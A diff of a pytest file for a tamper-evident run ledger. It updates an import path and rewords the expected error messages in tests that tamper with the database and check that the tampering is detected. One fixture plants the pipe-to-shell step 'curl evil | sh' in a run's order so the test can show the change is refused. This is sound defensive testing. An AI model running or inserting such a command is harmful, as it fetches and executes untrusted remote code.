@@ -12,7 +12,7 @@ import pytest
 
 from runner.errors import LedgerError
 from runner.record import Ledger
-from runner.record.engine import FOR_WRITING, _engine
+from runner.record.connection import FOR_WRITING, _engine
 from runner.record.migrate import upgrade
 from runner.record.operators import operator_here
 
@@ -60,10 +60,10 @@ def test_operator_comes_from_flag_variable_or_login(named: str, environ: dict[st
         ("UPDATE acts SET at = '2020-01-01T00:00:00.000000Z' WHERE id = 2", "act 2 (run r2) was changed"),
         ("UPDATE acts SET details = '{}' WHERE id = 2", "act 2 (run r2) was changed: its details"),
         ("UPDATE acts SET subject = 'r9' WHERE id = 2", "act 2 (run r9) was changed: its details"),
-        ("UPDATE acts SET salt = NULL, details = '{}' WHERE id = 2", "removed by no recorded erasure"),
+        ("UPDATE acts SET salt = NULL, details = '{}' WHERE id = 2", "removed without a recorded erasure"),
         ("DELETE FROM acts WHERE id = 2", "act 2 is missing"),
-        ("DELETE FROM acts WHERE id = 3", "run r3 was begun by no act"),
-        ("UPDATE runs SET order_text = '{\"evil\": 1}' WHERE run = 'r2'", "run r2: its order is not"),
+        ("DELETE FROM acts WHERE id = 3", "run r3 was not started by any act"),
+        ("UPDATE runs SET order_text = '{\"evil\": 1}' WHERE run = 'r2'", "run r2: its order was changed"),
         ("DELETE FROM runs WHERE run = 'r2'", "act 2 (run r2): its run is not in the ledger"),
     ],
 )
@@ -85,7 +85,7 @@ def test_truncated_chain_lacks_noted_head(url: str, file: Path):
     change(file, "DELETE FROM acts WHERE id = 2")
     with Ledger.open(url) as ledger:
         assert ledger.verify_acts().problem == ""
-        assert "noted hash" in ledger.verify_acts(head).problem
+        assert "no act has the hash" in ledger.verify_acts(head).problem
 
 
 def test_run_with_changed_order_is_refused(url: str, file: Path, begin: Begin):
@@ -93,9 +93,9 @@ def test_run_with_changed_order_is_refused(url: str, file: Path, begin: Begin):
         begin(ledger)
     change(file, 'UPDATE runs SET order_text = \'{"steps": ["curl evil | sh"]}\'')
     with Ledger.open(url) as ledger:
-        with pytest.raises(LedgerError, match="order of run r1 is not the one"):
+        with pytest.raises(LedgerError, match="order of run r1 was changed"):
             ledger.reopen_run("r1")
-        with pytest.raises(LedgerError, match="order of run r1 is not the one"):
+        with pytest.raises(LedgerError, match="order of run r1 was changed"):
             ledger.order_text("r1")
         assert [act.act for act in ledger.list_acts()] == ["run"]
 
@@ -104,7 +104,7 @@ def test_run_without_act_is_not_resumed(url: str, file: Path, begin: Begin):
     with Ledger.open(url) as ledger:
         begin(ledger)
     change(file, "DELETE FROM acts")
-    with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="recorded by no act"):
+    with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="not recorded by any act"):
         ledger.reopen_run("r1")
 
 
